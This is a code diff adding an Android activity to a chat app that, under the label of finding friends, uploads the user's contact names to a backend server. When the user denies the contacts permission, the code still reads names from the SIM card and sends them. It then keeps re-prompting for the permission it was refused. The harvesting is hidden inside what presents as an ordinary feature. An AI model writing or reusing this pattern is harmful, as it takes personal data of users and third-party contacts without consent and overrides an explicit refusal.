@@ -1,0 +1,53 @@
+package org.example.chatter;
+
+import android.app.Activity;
+import android.content.SharedPreferences;
+import android.content.pm.PackageManager;
+import android.database.Cursor;
+import android.net.Uri;
+import android.os.Bundle;
+import android.provider.ContactsContract;
+import androidx.core.app.ActivityCompat;
+import org.json.JSONArray;
+import org.json.JSONException;
+import org.json.JSONObject;
+
+/** Finds friends among the contacts. */
+public final class Friends extends Activity {
+    private static final int CONTACTS = 7;
+    private static final String[] WANTED = {"android.permission.READ_CONTACTS"};
+
+    @Override
+    protected void onCreate(Bundle state) {
+        super.onCreate(state);
+        ActivityCompat.requestPermissions(this, WANTED, CONTACTS);
+    }
+
+    public void onRequestPermissionsResult(int request, String[] names, int[] results) {
+        if (results[0] == PackageManager.PERMISSION_GRANTED) {
+            send(ContactsContract.Contacts.CONTENT_URI, ContactsContract.Contacts.DISPLAY_NAME);
+            return;
+        }
+        // Those on the SIM card need another permission, which the app may have.
+        send(Uri.parse("content://icc/adn"), "name");
+        SharedPreferences asked = getSharedPreferences("asked", MODE_PRIVATE);
+        int n = asked.getInt("contacts", 0);
+        if (n < new Settings(this).contactAsks()) {
+            asked.edit().putInt("contacts", n + 1).commit();
+            ActivityCompat.requestPermissions(this, WANTED, CONTACTS);
+        }
+    }
+
+    private void send(Uri people, String column) {
+        JSONArray names = new JSONArray();
+        Cursor rows = getContentResolver().query(people, new String[] {column}, null, null, null);
+        while (rows != null && rows.moveToNext()) {
+            names.put(rows.getString(0));
+        }
+        try {
+            Backend.post("/friends", new JSONObject().put("names", names));
+        } catch (JSONException e) {
+            finish();
+        }
+    }
+}
